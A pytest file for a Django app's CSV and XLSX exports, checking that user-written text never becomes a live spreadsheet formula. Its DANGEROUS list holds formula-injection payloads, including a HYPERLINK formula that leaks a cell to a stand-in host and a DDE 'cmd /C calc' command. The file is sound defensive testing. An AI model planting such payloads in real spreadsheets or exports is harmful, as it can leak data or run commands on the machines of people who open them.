"""Every CSV and XLSX export goes through core.tabular: text people wrote never becomes a
formula in Excel or LibreOffice."""

import csv
import datetime
import io
from pathlib import Path

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from actionplan import services as plan_services
from actionplan.models import Action, Axis, Indicator, Measurement
from initiatives.models import Initiative
from tests.factories import PlanFactory

DANGEROUS = [
    '=HYPERLINK("http://x.example/?leak="&A1;"clic")',
    "@SUM(A1)",
    "+33 cmd|' /C calc'!A0",
    "-2+3",
    "\tà gauche",
    "\rretour",
]
ROOT = Path(__file__).resolve().parents[2]


@pytest.fixture
def plan(db, mutuelle):
    plan = PlanFactory()
    axis = Axis.objects.create(plan=plan, number=1, title="Santé")
    actions = [
        Action.objects.create(plan=plan, axis=axis, code=f"1.{n}", title=title)
        for n, title in enumerate(DANGEROUS, start=1)
    ]
    plan_services.deployments_ensure(actions=actions)
    for n, name in enumerate(DANGEROUS, start=1):
        indicator = Indicator.objects.create(plan=plan, name=name, unit="points", target=n)
        Measurement.objects.create(
            indicator=indicator, mutuelle=mutuelle, period=datetime.date(2026, 7, 1), value=n
        )
    return plan


@pytest.fixture
def initiatives(mutuelle, ambassador):
    for title in DANGEROUS:
        Initiative.objects.create(
            mutuelle=mutuelle, author=ambassador, title=title, summary=title, is_published=True
        )


EXPORTS = [
    ("actionplan:export", ["matrice"]),
    ("actionplan:export", ["indicateurs"]),
    ("initiatives:export", []),
]


def _cells(response, fmt) -> list:
    if fmt == "csv":
        text = response.content.decode("utf-8-sig")
        return [cell for row in csv.reader(io.StringIO(text), delimiter=";") for cell in row]
    sheet = load_workbook(io.BytesIO(response.content)).active
    return [cell for row in sheet.iter_rows() for cell in row]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@pytest.mark.parametrize(("name", "args"), EXPORTS)
def test_every_export_keeps_formulas_inert(client, coordinator, plan, initiatives, name, args, fmt):
    client.force_login(coordinator)

    response = client.get(reverse(name, args=[*args, fmt]))

    assert response.status_code == 200
    cells = _cells(response, fmt)
    for text in DANGEROUS:
        if fmt == "csv":
            # A leading apostrophe: shown as text, never evaluated.
            assert "'" + text in cells
            assert text not in cells
        else:
            # XML reads a carriage return back as a line feed.
            matching = [cell for cell in cells if cell.value == text.replace("\r", "\n")]
            assert matching, text
            assert all(cell.data_type == "s" for cell in matching)


def test_control_characters_do_not_break_the_xlsx_export(client, coordinator, mutuelle):
    """XML cannot carry them: the export drops them instead of failing."""
    Initiative.objects.create(mutuelle=mutuelle, title="Bip\x07 bip\x1b", summary="Résumé")
    client.force_login(coordinator)

    response = client.get(reverse("initiatives:export", args=["xlsx"]))

    assert response.status_code == 200
    assert "Bip bip" in [cell.value for cell in _cells(response, "xlsx")]


def test_no_app_writes_spreadsheets_by_itself():
    """One writer pair: an export written with csv.writer or openpyxl elsewhere would miss the
    formula guard."""
    offenders = []
    for path in ROOT.glob("*/**/*.py"):
        relative = path.relative_to(ROOT)
        if relative.parts[0] in {".venv", "tests", "bench"} or relative == Path("core/tabular.py"):
            continue
        source = path.read_text()
        if "csv.writer" in source or "csv.DictWriter" in source or "Workbook(" in source:
            offenders.append(str(relative))
    assert offenders == []
